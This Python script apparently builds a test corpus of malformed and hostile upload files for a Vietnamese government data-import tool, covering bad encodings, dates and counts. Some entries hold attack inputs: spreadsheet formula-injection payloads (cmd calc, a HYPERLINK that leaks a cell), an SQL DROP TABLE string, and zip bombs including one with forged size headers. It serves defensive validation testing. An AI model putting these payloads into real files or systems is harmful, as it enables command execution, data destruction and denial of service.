"""Regenerate the malformed-file corpus of tests/test_bad_files.py (the files are committed; run
this only to change them):  .venv/bin/python tests/data/bad/make_corpus.py

Every file is something a data officer could plausibly upload by mistake, or an attacker on
purpose. What each must produce is in tests/test_bad_files.py.
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent

DOSSIER_HEADER = ["Mã hồ sơ", "Tên thủ tục", "Lĩnh vực", "Đơn vị", "Hình thức nộp", "Ngày tiếp nhận",
                  "Ngày hẹn trả", "Ngày trả kết quả", "Phiếu xin lỗi"]


def dossier(i: int, unit: str = "Xã Phước Hậu", received: str = "02/05/2023 08:00", due: str = "05/05/2023",
            finished: str = "04/05/2023 10:00", procedure: str = "Đăng ký khai sinh") -> list[str]:
    return [f"HS-{i:03d}", procedure, "Hộ tịch", unit, "Trực tiếp", received, due, finished, ""]


def csv_text(rows: list[list[str]], sep: str = ",") -> str:
    def cell(v: str) -> str:
        v = "" if v is None else str(v)
        return '"' + v.replace('"', '""') + '"' if any(c in v for c in (sep, '"', "\n")) else v
    return "".join(sep.join(cell(v) for v in r) + "\r\n" for r in rows)


def write(name: str, data: bytes | str) -> None:
    (HERE / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def main() -> None:
    good = [DOSSIER_HEADER] + [dossier(i) for i in range(1, 4)]
    # 1-4: nothing to load
    write("01_rong.csv", b"")
    write("02_chi_o_trong.csv", ",,,\r\n, , ,\r\n\r\n,,,\r\n")
    write("03_chi_tieu_de.csv", csv_text([DOSSIER_HEADER]))
    write("04_chi_tieu_de.xlsx", xlsx_bytes([["SỔ THEO DÕI HỒ SƠ"], [], DOSSIER_HEADER, [None, "Tổng cộng:", 0]]))
    # 5: a file of another kind (a staff list)
    write("05_sai_loai_danh_sach_can_bo.csv",
          csv_text([["Họ và tên", "Ngày sinh", "Chức vụ"], ["Nguyễn Văn A", "01/01/1980", "Chủ tịch"]]))
    # 6-7: binary content under a CSV / XLSX name
    write("06_nhi_phan.csv", bytes(range(256)) * 8)
    write("07_anh_png.xlsx", b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(200))
    # 8: an .xlsx cut off half-way (interrupted download)
    full = xlsx_bytes(good)
    write("08_xlsx_cat_do.xlsx", full[: len(full) // 2])
    # 9: a zip that is not a workbook
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("bao-cao.docx.txt", "không phải bảng tính")
    write("09_zip_khong_phai_xlsx.xlsx", buf.getvalue())
    # 10: Excel 97-2003
    write("10_excel_cu.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048))
    # 11: zip bomb: 64 MB of one byte squeezed into ~64 KB, declared honestly
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", b"<" * (64 * 1024 * 1024))
    write("11_zip_bomb.xlsx", buf.getvalue())
    # 12: a zip whose directory declares a 4 GB sheet (huge, refused before anything is expanded)
    write("12_xlsx_khai_4gb.xlsx", _declared_huge_xlsx())
    # 13: Windows-1258 CSV, undecodable as Windows-1258 too (bytes 0x81 0x8D are undefined there)
    write("13_ma_hoa_la.csv", csv_text([DOSSIER_HEADER]).encode("utf-8") + b"HS-1,\x81\x8d\x8f\x90,x\r\n")
    # 14: UTF-8 read as Windows-1252 and saved again ("Phước" -> "PhÆ°á»›c")
    write("14_loi_ma_hoa_hai_lan.csv", csv_text(good).encode("utf-8").decode("cp1252", errors="replace").encode("utf-8"))
    # 15: UTF-16 ("Unicode Text" from Excel)
    write("15_utf16.csv", csv_text(good, sep="\t").encode("utf-16"))
    # 16: dates written month-first (US locale): 05/13/2023
    write("16_ngay_thang_truoc.csv", csv_text([DOSSIER_HEADER] + [
        dossier(i, received=f"05/{13 + i}/2023 08:00", due=f"05/{16 + i}/2023", finished="") for i in range(1, 4)]))
    # 17: negative scores
    write("17_diem_am.csv", csv_text([["Đơn vị", "Kỳ đánh giá", "Tổng điểm"],
                                      ["Xã Phước Hậu", "Tháng 05/2023", "-5"],
                                      ["Thị trấn Phước Dân", "Tháng 05/2023", "-12,5"]]))
    # 18: more signatures than officials
    write("18_ky_nhieu_hon_bien_che.csv", csv_text([
        ["Đơn vị", "Năm", "Tổng số CBCCVC", "Ký cam kết văn hóa công sở"],
        ["Xã Phước Hậu", "2023", "20", "25"]]))
    # 19: 100,000 columns
    write("19_100000_cot.csv", ",".join(f"C{i}" for i in range(100_000)) + "\r\n" + ",".join("1" for _ in range(100_000)) + "\r\n")
    # 20: formula payloads in names (a unit, a procedure)
    write("20_cong_thuc_trong_ten.csv", csv_text([DOSSIER_HEADER,
        dossier(1, unit='=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào")'),
        dossier(2, procedure="=cmd|' /C calc'!A0", finished="08/05/2023 10:00"),
        dossier(3, unit="@SUM(1+1)*cmd|' /C calc'!A0")]))
    # 21: an HTML table saved with an .xls name (what some web systems call "Excel export")
    write("21_html_dat_ten_xls.xls", "<html><head><meta charset='utf-8'></head><body><table><tr>"
          + "".join(f"<td>{h}</td>" for h in DOSSIER_HEADER) + "</tr></table></body></html>")
    # 22: a PDF renamed .csv
    write("22_pdf.csv", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n" + bytes(64) + b"\n%%EOF\n")
    # 23: header and a totals row only
    write("23_chi_dong_tong_cong.csv", csv_text([DOSSIER_HEADER, ["", "Tổng cộng:", "0"]]))
    # 24: every unit outside the registry
    write("24_don_vi_la.csv", csv_text([DOSSIER_HEADER] + [dossier(i, unit="Xã Hòa Bình") for i in range(1, 3)]))
    # 25: due date before the receipt date
    write("25_hen_tra_truoc_tiep_nhan.csv", csv_text([DOSSIER_HEADER, dossier(1, received="10/05/2023 08:00",
                                                                               due="05/05/2023", finished="")]))
    # 26: an xlsx with 16,000 columns (Excel allows 16,384) in the header row
    write("26_xlsx_qua_nhieu_cot.xlsx", xlsx_bytes([[f"C{i}" for i in range(16_000)]]))
    # 27: two-digit years
    write("27_nam_hai_chu_so.csv", csv_text([DOSSIER_HEADER, dossier(1, received="02/05/23 08:00", due="05/05/23",
                                                                      finished="")]))
    # 28: a dossier file missing a required column (no due date)
    write("28_thieu_cot_hen_tra.csv", csv_text([[h for h in DOSSIER_HEADER if h != "Ngày hẹn trả"]]
                                               + [dossier(1)[:6] + dossier(1)[7:]]))
    # 29: a zip bomb that lies: its directory declares a 1 KB sheet that expands to 64 MB
    write("29_zip_bomb_khai_gian.xlsx", _lying_xlsx())
    # 30: SQL in every text cell (quotes, comments, statements)
    sql = "x'); DROP TABLE dossiers; --"
    write("30_sql_trong_o.csv", csv_text([DOSSIER_HEADER,
        [sql, sql, sql, "Xã Phước Hậu", "Trực tiếp", "02/05/2023 08:00", "05/05/2023", "04/05/2023 10:00", ""],
        ["HS-'1", "Đăng ký", "Hộ tịch", sql, "Trực tiếp", "02/05/2023 08:00", "05/05/2023", "", sql]]))
    # 31: Windows-1258 (what Vietnamese Excel writes as "CSV"): recognised and loaded
    write("31_windows_1258.csv", b"".join(_cp1258(ch) for ch in csv_text(good)))
    # 32: saved as Windows-1252: every letter Windows-1252 lacks became "?"
    write("32_windows_1252.csv", csv_text(good).encode("cp1252", errors="replace"))
    evidence_files()


SURVEY_HEADER = ["Đơn vị", "Tháng", "Tổng số phiếu", "Rất hài lòng", "Hài lòng", "Bình thường", "Không hài lòng"]
INSPECTION_HEADER = ["Ngày kiểm tra", "Đơn vị", "Số CBCCVC được kiểm tra", "Đi muộn, về sớm, vắng mặt",
                     "Trang phục, thẻ công chức", "Giao tiếp, ứng xử", "Bài trí, vệ sinh công sở"]
RATING_HEADER = ["STT", "Đơn vị", "Năm", "Tổng số CBCCVC", "Hoàn thành xuất sắc nhiệm vụ", "Hoàn thành tốt nhiệm vụ",
                 "Hoàn thành nhiệm vụ", "Không hoàn thành nhiệm vụ"]
COMMENDATION_HEADER = ["Số quyết định", "Ngày quyết định", "Cấp khen thưởng", "Hình thức khen thưởng",
                       "Tên tập thể, cá nhân", "Đơn vị"]


def evidence_files() -> None:
    """33-41: the sheets of surveys, inspections, staff ratings and commendations gone wrong.
    (Written apart so they can be made without rewriting the older files:
    .venv/bin/python -c "import sys; sys.path.insert(0, 'tests/data/bad'); import make_corpus as m; m.evidence_files()")"""
    # 33: a survey sheet with its header and a totals row only
    write("33_khao_sat_chi_tieu_de.xlsx", xlsx_bytes([["KẾT QUẢ KHẢO SÁT MỨC ĐỘ HÀI LÒNG"], [], SURVEY_HEADER,
                                                      [None, "Tổng cộng", 0, 0, 0, 0, 0]]))
    # 34: a commendation list without the decision number: not recognisable
    write("34_khen_thuong_thieu_so_quyet_dinh.csv", csv_text([
        COMMENDATION_HEADER[1:], ["20/12/2022", "UBND huyện", "Giấy khen", "Nguyễn Văn An", "Xã Phước Hậu"]]))
    # 35: levels summing above the total; ";" CSV with a BOM, headings without diacritics, title block, totals
    write("35_khao_sat_vuot_tong_so_phieu.csv", "\ufeff" + csv_text([
        ["UBND HUYỆN NINH PHƯỚC"], ["KẾT QUẢ KHẢO SÁT MỨC ĐỘ HÀI LÒNG THÁNG 5/2022"], [],
        ["STT", "Don vi", "Thang", "Tong so phieu", "Rat hai long", "Hai long", "Binh thuong", "Khong hai long"],
        ["1", "Xa Phuoc Hau", "05/2022", "10", "8", "2", "1", "0"],
        ["2", "UBND xa An Hai", "Thang 5/2022", "20", "15", "5", "1", "0"],
        ["", "Tong cong", "", "30", "23", "7", "2", "0"]], sep=";"))
    # 36: months that do not exist
    write("36_khao_sat_thang_13.csv", csv_text([
        [h for h in SURVEY_HEADER if h != "Tổng số phiếu"],
        ["Xã Phước Hậu", "13/2022", "40", "5", "1", "0"],
        ["Xã Phước Hậu", "Tháng 0/2022", "40", "5", "1", "0"]]))
    # 37: more officials rated than the unit has (XLSX, title block)
    write("37_xep_loai_vuot_bien_che.xlsx", xlsx_bytes([
        ["BẢNG TỔNG HỢP KẾT QUẢ XẾP LOẠI CBCCVC NĂM 2023"], [], RATING_HEADER,
        [1, "Xã Phước Hậu", 2023, 20, 4, 15, 2, 0],
        [2, "Phòng Tư pháp", 2023, 5, 2, 4, 0, 0]]))
    # 38: more officials in breach than were checked
    write("38_kiem_tra_vuot_so_duoc_kiem_tra.csv", csv_text([
        INSPECTION_HEADER,
        ["15/03/2022", "Xã Phước Hậu", "5", "6", "0", "7", "0"],
        ["16/03/2022", "Phòng Tư pháp", "4", "0", "5", "0", "0"]]))
    # 39: an unknown unit, a blank count of officials checked, a day that does not exist
    write("39_kiem_tra_don_vi_la_o_trong.csv", csv_text([
        INSPECTION_HEADER,
        ["15/03/2022", "Xã Hòa Bình", "5", "0", "0", "0", "0"],
        ["16/03/2022", "Xã Phước Hậu", "", "1", "0", "0", "0"],
        ["30/02/2022", "Xã Phước Hậu", "5", "0", "0", "0", "0"]]))
    # 40: commendations with blank required cells
    write("40_khen_thuong_o_trong.csv", csv_text([
        COMMENDATION_HEADER,
        ["", "20/12/2022", "UBND huyện", "Giấy khen", "Nguyễn Văn An", "Xã Phước Hậu"],
        ["125/QĐ-UBND", "", "UBND huyện", "Giấy khen", "Nguyễn Văn An", "Xã Phước Hậu"],
        ["125/QĐ-UBND", "20/12/2022", "UBND huyện", "Giấy khen", "", "Xã Phước Hậu"]]))
    # 41: surveys with blank required cells and a negative count
    write("41_khao_sat_o_trong.csv", csv_text([
        SURVEY_HEADER,
        ["", "05/2022", "10", "8", "2", "0", "0"],
        ["Xã Phước Hậu", "", "10", "8", "2", "0", "0"],
        ["Xã Phước Hậu", "06/2022", "10", "", "", "", ""],
        ["Xã Phước Hậu", "07/2022", "10", "-3", "2", "0", "0"]]))


def _cp1258(ch: str) -> bytes:
    """One character in Windows-1258: precomposed where the code page has it (â, ơ, ư, ă, đ, ...),
    else the base letter and the tone as a combining mark, as Windows writes Vietnamese."""
    import unicodedata
    try:
        return ch.encode("cp1258")
    except UnicodeEncodeError:
        base, *marks = unicodedata.normalize("NFD", ch)
        tones = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}
        shape = "".join(m for m in marks if m not in tones)
        return (unicodedata.normalize("NFC", base + shape).encode("cp1258")
                + "".join(m for m in marks if m in tones).encode("cp1258"))


def _lying_xlsx() -> bytes:
    rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{t}" '
            'Target="{target}"/></Relationships>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
        z.writestr("_rels/.rels", rels.format(t="officeDocument", target="xl/workbook.xml"))
        z.writestr("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                   'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
                   '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", rels.format(t="worksheet", target="worksheets/sheet1.xml"))
        z.writestr("xl/worksheets/sheet1.xml",
                   b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                   b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + b"A" * (64 * 1024 * 1024)
                   + b"</t></is></c></row></sheetData></worksheet>")
    data = bytearray(buf.getvalue())
    target = b"xl/worksheets/sheet1.xml"
    for sig, name_len_at, name_at, size_at in ((b"PK\x03\x04", 26, 30, 22), (b"PK\x01\x02", 28, 46, 24)):
        i = data.find(sig)
        while i >= 0:
            n = struct.unpack_from("<H", data, i + name_len_at)[0]
            if bytes(data[i + name_at:i + name_at + n]) == target:
                struct.pack_into("<I", data, i + size_at, 1024)
            i = data.find(sig, i + 4)
    return bytes(data)


def _declared_huge_xlsx() -> bytes:
    """A tiny zip whose central directory claims a 4 GB entry: the size check must refuse it
    from the directory alone."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", "<worksheet/>")
    data = bytearray(buf.getvalue())
    # Patch the uncompressed size of the last central-directory entry to 0xFFFFFFF0.
    cd = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, cd + 24, 0xFFFFFFF0)
    return bytes(data)


if __name__ == "__main__":
    main()
